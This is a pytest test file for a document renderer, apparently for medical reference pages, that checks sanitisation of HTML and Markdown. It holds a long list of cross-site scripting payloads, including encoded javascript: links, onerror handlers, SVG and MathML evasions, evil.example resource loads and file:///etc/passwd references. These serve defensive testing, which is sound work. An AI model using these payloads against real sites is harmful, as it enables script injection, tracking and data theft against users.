"""Nothing that a document can write runs, loads or leads anywhere but where the page says."""

import re

import pytest

from tests.support.html import Seen
from tests.unit.rendering.conftest import Render

TAGS = frozenset(
    (
        *("h1", "h2", "h3", "h4", "h5", "h6", "p", "br", "hr", "blockquote", "pre", "code"),
        *("ul", "ol", "li", "dl", "dt", "dd", "table", "caption", "thead", "tbody", "tfoot", "tr"),
        *("th", "td", "a", "img", "em", "strong", "b", "i", "u", "s", "del", "ins", "sub", "sup"),
        *("span", "small", "abbr", "cite", "dfn", "kbd", "mark", "q", "samp", "var"),
    )
)
ATTRIBUTES = frozenset(
    (
        *("href", "src", "alt", "class", "id", "title", "start", "type", "align"),
        *("width", "height", "cellspacing", "colspan", "rowspan"),
    )
)
HREF = re.compile(
    r"#[\w-]*|(?:section|term|drug):[\w-]+(?:#[\w-]+)?|trial:NCT[0-9]{8}"
    r"|web:(?:https?|mailto|tel)%3A[\w%.~-]+"
)
SOURCE = re.compile(r"qr:https?%3A[\w%.~-]+|illustration:[a-z0-9-]+\.svg")

PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/xss src=//evil.example></script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "</p><script>alert(1)</script>",
    "`</code><script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'>",
    '<img """><script>alert(1)</script>">',
    "<img src=javascript:alert(1)>",
    "<img src=http://evil.example/track.gif>",
    "<img src=//evil.example/track.gif>",
    "<img src=file:///etc/passwd>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<img src=illustration:../../../etc/passwd>",
    "<img src=qr:hello>",
    "<img srcset='http://evil.example/x 2x'>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:x onerror\n=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<math href=javascript:alert(1)>x</math>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)'>x</a>",
    "<a href='java&Tab;script&colon;alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a href=blob:https://evil.example/1>x</a>",
    "<a href=# onclick=alert(1)>x</a>",
    "<a href=http://ok.example target=_blank style=position:fixed>x</a>",
    "<a id=page-top name=x class=term href=term:evil>x</a>",
    '<a href="http://ok.example/\\"onmouseover=alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java\x01script:alert(1))",
    "[x](\x0ejavascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#x6a;avascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](\\\\evil.example\\share)",
    '[x](http://a.example/"onclick="alert(1))',
    '[x](http://a.example "t"onclick="alert(1)")',
    "[x](http://a.example/'><script>alert(1)</script>)",
    '[x](section:../../etc#"><script>alert(1)</script>)',
    '[x](term:"onclick="alert(1))',
    '[x](#"onclick="alert(1))',
    "[x][evil]\n\n[evil]: javascript:alert(1)",
    "[x][evil]\n\n[evil]: <data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](http://evil.example/a.png)",
    '![x"onerror="alert(1)](a.png)',
    "![<script>alert(1)</script>](a.png)",
    '![x](illustrations/blood-cells.svg"onload="alert(1))',
    "![x](illustrations/../../secret.svg)",
    '![x](illustrations/blood-cells.svg "</p><script>alert(1)</script>")',
    "[![x](a.png)](javascript:alert(1))",
    "<javascript:alert(1)>",
    '<http://a.example/"onclick=alert(1)>',
    "<style>body{background:url(http://evil.example)}</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<p style='x:expression(alert(1))' class=notice>x</p>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=http://evil.example/>",
    "<iframe src=http://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<form action=javascript:alert(1)><input type=submit><button formaction=x>y</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea><script>alert(1)</script></textarea>",
    "<select onchange=alert(1)><option>x</option></select>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio src=http://evil.example/a.mp3 autoplay></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<table background=javascript:alert(1)><td background=x>y</td></table>",
    "<td colspan=1000000000 rowspan=99999>x",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x02wzxhzdk:0\x03 <b>x</b> \x02klzzwxh:0000\x03",
    "# head <script>alert(1)</script>\n\n## <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](data:1) |",
    "- <script>alert(1)</script>\n  - <iframe src=x>",
    "<b class='x' id='y' onclick='z' style='w'>x</b>",
)


def test_the_list_is_long_enough() -> None:
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("around", ["{}", "Words {} words.", "- a\n- {}\n", "> {}"])
def test_only_our_own_comes_out(payload: str, around: str, render: Render) -> None:
    page = render("## Part\n\n" + around.format(payload) + "\n\n## Last\n\nThe last words.\n")
    seen = Seen(page.html)
    for tag, attributes in seen.tags:
        assert tag in TAGS, (tag, attributes)
        assert attributes.keys() <= ATTRIBUTES
        if "href" in attributes:
            assert HREF.fullmatch(attributes["href"])
        if "src" in attributes:
            assert SOURCE.fullmatch(attributes["src"])
        assert int(attributes.get("colspan", "1")) < 1000
    for link in page.links:
        assert HREF.fullmatch(link.href)
    assert "The last words." in seen.words
